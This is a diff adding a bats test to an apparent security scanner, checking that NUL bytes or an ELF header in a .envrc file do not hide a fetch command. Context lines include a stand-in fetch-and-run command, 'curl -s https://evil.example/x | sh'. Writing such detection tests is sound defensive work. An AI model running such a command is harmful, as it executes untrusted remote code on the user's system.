@@ -223,6 +223,16 @@ curl -s https://evil.example/x | sh'
 	[[ "$output" == *SCAN-LINK-OUT* && "$output" != *post-checkout* ]]
 }
 
+@test "a NUL does not hide a script" {
+	tree .envrc x
+	printf 'ls\n\0\n' >t/.envrc
+	scan 1 # the control: odd, and no more
+	printf 'ls\n\0\n%s\n' "$FETCH" >t/.envrc
+	scan 2
+	printf '\177ELF\n%s\n' "$FETCH" >t/.envrc
+	scan 2
+}
+
 @test "one file, and none" {
 	tree .envrc "$FETCH"
 	run -2 "$CORDON" scan t/.envrc
